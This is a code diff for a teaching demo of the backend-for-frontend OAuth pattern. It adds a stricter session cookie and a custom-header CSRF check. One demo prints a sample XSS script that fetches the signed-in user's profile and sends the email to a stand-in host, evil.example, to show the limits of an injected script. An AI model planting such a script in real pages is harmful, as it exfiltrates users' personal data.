@@ -12,16 +12,28 @@ import type { DemoWorld } from '../oauth/world.js';
 
 type TokenFlows = typeof import('../oauth/token-flows.js');
 
-/** The name of the BFF's session cookie: a random id that names a session on the server, nothing more. */
-export const SESSION_COOKIE = 'swaad_session';
+/**
+ * The name of the BFF's session cookie: a random id that names a session on the server, nothing more.
+ * The __Host-Http- prefix is the one RFC 10017 §6.1.3.2 suggests: a browser keeps the cookie only if it is
+ * Secure and HttpOnly, has Path=/ and no Domain, so no other host of the site can set one in its place.
+ */
+export const SESSION_COOKIE = '__Host-Http-swaad_session';
 
 /**
- * The session cookie's attributes. Secure although the demo serves http://127.0.0.1: browsers such as
- * Chrome count loopback as secure and keep a Secure cookie set from it, and this is the cookie a
- * real BFF on https sends (the terminal's browser, UserAgent, ignores the attribute). SameSite=Lax, not Strict: after the sign-in the provider (another
- * site, in real life) sends the browser back here, and a Strict cookie would be left off that navigation.
+ * The session cookie's attributes (RFC 10017 §6.1.3.2). Secure although the demo serves http://127.0.0.1:
+ * browsers such as Chrome count loopback as secure and keep a Secure cookie set from it, and this is the
+ * cookie a real BFF on https sends (the terminal's browser, UserAgent, ignores the attribute). SameSite=Strict:
+ * the page's own calls are same-site and carry it; the page load right after the provider's redirect goes
+ * without it, and needs none. The login-binding cookie stays Lax: it must come back on that redirect.
  */
-export const SESSION_COOKIE_ATTRIBUTES = 'HttpOnly; Secure; SameSite=Lax; Path=/';
+export const SESSION_COOKIE_ATTRIBUTES = 'HttpOnly; Secure; SameSite=Strict; Path=/';
+
+/**
+ * The header of its own the BFF requires on every call the page's script makes (/api/*, POST /logout), a CSRF
+ * defence (RFC 10017 §6.1.3.3.2): a link or a form cannot add it, and a script on another origin needs
+ * a CORS preflight the BFF never approves.
+ */
+export const API_HEADER = { name: 'Swaad-Request', value: '1' } as const;
 
 /** What the BFF keeps for a signed-in browser: every token, on the server. */
 interface BffSession {
@@ -55,7 +67,8 @@ const cookieOf = (request: IncomingMessage, name: string) => new RegExp(`(?:^|;\
 export const BFF_PAGE_SCRIPT = [
   'const token = localStorage.getItem(\'access_token\');',
   'const cookies = JSON.stringify(document.cookie);',
-  'fetch(\'/api/me\').then((answer) => answer.json())',
+  'fetch(\'/api/me\', { headers: { \'Swaad-Request\': \'1\' } })',
+  '  .then((answer) => answer.json())',
   '  .then((me) => document.body.textContent = \'Hello, \''
   + ' + me.name',
   '    + \' | localStorage: \' + token',
@@ -164,12 +177,17 @@ export async function startBff(world: DemoWorld, flows: TokenFlows, backChannel:
     'GET /api/me': me,
     'POST /logout': logout,
   };
+  // Calls the page's script makes must carry the BFF's own header; page loads and redirects need none.
+  const needsApiHeader = (method: string | undefined, path: string) => path.startsWith('/api/') || method === 'POST';
   const server = createServer((request, response) => {
     // A request target that is not a URL is nobody's page.
     if (!URL.canParse(request.url ?? '/', base)) return send(response, 400, { error: 'not an address this BFF serves' });
     const url = new URL(request.url ?? '/', base);
     const route = routes[`${request.method} ${url.pathname}`];
     if (!route) return send(response, 404, { error: 'not found' });
+    if (needsApiHeader(request.method, url.pathname) && request.headers[API_HEADER.name.toLowerCase()] !== API_HEADER.value) {
+      return send(response, 403, { error: `no ${API_HEADER.name} header: not a call from Swaad's page` });
+    }
     route(request, response, url).catch(() => {
       if (!response.headersSent) send(response, 500, { error: 'the BFF failed' });
     });
@@ -249,14 +267,19 @@ function sessionCookieLine(callback: RecordedExchange): string {
   return line.replace(/=([\w-]{12,});/, (_match, id: string) => `=${opening(id)};`);
 }
 
+/** What the page's script (and a script injected into it) sends with its calls to the BFF. */
+export const PAGE_CALL = { headers: { [API_HEADER.name]: API_HEADER.value } };
+
 /** A token's place in the browser's bytes: "no" when none of them holds it. */
 const reached = (bytes: string, token: string | undefined) => (token !== undefined && bytes.includes(token) ? 'YES' : 'no');
 
 export const BROWSER_APP_DEMOS_RUN: { [Name in keyof typeof BROWSER_APP_DEMOS]: Demo } = {
   'bff-page': async () => withBffSignIn(async (run) => {
     const page = await run.browser.request('GET', `${run.bff.url}/`);
-    const apiMe = await run.browser.request('GET', `${run.bff.url}/api/me`);
+    const apiMe = await run.browser.request('GET', `${run.bff.url}/api/me`, PAGE_CALL);
     const userinfo = run.backChannel.exchanges.at(-1)!;
+    // The same call without the header, as a link or a form elsewhere would send it.
+    const withoutHeader = await run.browser.request('GET', `${run.bff.url}/api/me`);
     const session = [...run.bff.sessions.values()][0]!;
     const bytes = run.bff.sentBytes();
     const answers = run.browser.exchanges.filter(({ request }) => request.url.startsWith(`${run.bff.url}/`)).length;
@@ -268,9 +291,10 @@ export const BROWSER_APP_DEMOS_RUN: { [Name in keyof typeof BROWSER_APP_DEMOS]: 
       blank,
       { kind: 'lines', lines: ['The cookie /callback set:', `  set-cookie: ${cookie}`] },
       blank,
-      exchange('GET', '/api/me', `from the page: Cookie: ${SESSION_COOKIE}=… and nothing else`, { status: apiMe.response.status, body: JSON.parse(apiMe.response.body) }),
+      exchange('GET', '/api/me', `from the page: ${API_HEADER.name}: ${API_HEADER.value} and the cookie, no token`, { status: apiMe.response.status, body: JSON.parse(apiMe.response.body) }),
       recorded('from the BFF: Authorization: Bearer <Asha\'s access token>', userinfo),
       { kind: 'remark', lead: '', text: 'The page asked Swaad; Swaad\'s server added the access token and asked Mock Google\'s API.' },
+      exchange('GET', '/api/me', `the cookie without the ${API_HEADER.name} header, as a link or form would send it`, { status: withoutHeader.response.status, body: JSON.parse(withoutHeader.response.body) }),
       blank,
       { kind: 'table', headings: ['token', `in the ${answers} answers Swaad sent the browser?`], rows: [
         ['access token', reached(bytes, session.accessToken)],
@@ -284,32 +308,33 @@ export const BROWSER_APP_DEMOS_RUN: { [Name in keyof typeof BROWSER_APP_DEMOS]: 
       paragraph(`In a browser this page shows: Hello, ${name} | localStorage: null | document.cookie: ${documentCookie}`),
       paragraph('The demo plays the browser with a small HTTP client and does not run the script; a browser runs it as shown. Nothing put a token in localStorage, and document.cookie leaves out an HttpOnly cookie.'),
     ];
-    return { parts, saved: {}, ok: apiMe.response.status === 200 && !bytes.includes(session.accessToken) };
+    return { parts, saved: {}, ok: apiMe.response.status === 200 && withoutHeader.response.status === 403 && !bytes.includes(session.accessToken) };
   }),
 
   'bff-injected-script': async () => withBffSignIn(async (run, world) => {
-    const fromScript = await run.browser.request('GET', `${run.bff.url}/api/me`);
+    const fromScript = await run.browser.request('GET', `${run.bff.url}/api/me`, PAGE_CALL);
     // 16 minutes on, by Mock Google's clock: Asha's 15-minute access token has run out.
     world.clock.skip(16 * 60);
     const sentBefore = run.backChannel.exchanges.length;
-    const later = await run.browser.request('GET', `${run.bff.url}/api/me`);
+    const later = await run.browser.request('GET', `${run.bff.url}/api/me`, PAGE_CALL);
     const serverSide = run.backChannel.exchanges.slice(sentBefore);
     const refreshTokens = run.backChannel.exchanges.filter(({ request }) => request.url.endsWith('/token')).map((done) => String(JSON.parse(done.response.body).refresh_token));
     const leaked = refreshTokens.some((token) => run.bff.sentBytes().includes(token));
-    const logout = await run.browser.request('POST', `${run.bff.url}/logout`);
+    const logout = await run.browser.request('POST', `${run.bff.url}/logout`, PAGE_CALL);
     const revoked = run.backChannel.exchanges.at(-1)!;
-    const afterLogout = await run.browser.request('GET', `${run.bff.url}/api/me`);
+    const afterLogout = await run.browser.request('GET', `${run.bff.url}/api/me`, PAGE_CALL);
     const json = (done: RecordedExchange) => ({ status: done.response.status, body: JSON.parse(done.response.body) as unknown });
     const parts: DemoPart[] = [
       { kind: 'code', heading: 'A script injected into the page (an XSS bug):', lines: [
         'localStorage.getItem(\'access_token\');  // null',
         'document.cookie;  // ""',
-        'fetch(\'/api/me\').then((answer) => answer.json())',
+        'fetch(\'/api/me\', { headers: { \'Swaad-Request\': \'1\' } })',
+        '  .then((answer) => answer.json())',
         '  .then((me) => fetch(\'https://evil.example/?\' + me.email));',
       ] },
       blank,
-      exchange('GET', '/api/me', 'from the injected script: the browser adds the cookie', json(fromScript)),
-      { kind: 'remark', lead: '', text: 'Swaad cannot tell this request from the page\'s own: the script acts as Asha while the page is open.' },
+      exchange('GET', '/api/me', 'from the injected script: it adds the header, the browser the cookie', json(fromScript)),
+      { kind: 'remark', lead: '', text: 'Swaad cannot tell this request from the page\'s own: the script runs in the page, so it can send the header too, and it acts as Asha while the page is open.' },
       blank,
       paragraph('16 minutes later (the demo moves Mock Google\'s clock on): the access token has run out.'),
       exchange('GET', '/api/me', 'from the page, the same cookie', json(later)),
@@ -320,7 +345,7 @@ export const BROWSER_APP_DEMOS_RUN: { [Name in keyof typeof BROWSER_APP_DEMOS]: 
       recorded('from the BFF: the refresh token, to be revoked', revoked),
       exchange('GET', '/api/me', 'the injected script tries again', json(afterLogout)),
       blank,
-      paragraph('Once the session ends, so does the script\'s hold on Asha\'s account: it never held a token it could carry away and use from elsewhere. On lesson 9\'s page it could have copied the access token, and a refresh token kept there would have let it get new access tokens from anywhere, until reuse detection (lesson 12) or the token\'s expiry stopped it.'),
+      paragraph('Once the session ends, so does the script\'s hold on Asha\'s account: it never held a token it could carry away and use from elsewhere. On lesson 9\'s page it could have copied the access token, and a refresh token kept there would have let it get new access tokens from anywhere, until its expiry or a revocation; reuse detection (lesson 12) catches it only if the app uses the same token again (RFC 10017 §5.1.2).'),
     ];
     return { parts, saved: {}, ok: !leaked && fromScript.response.status === 200 && later.response.status === 200 && afterLogout.response.status === 401 };
   }),
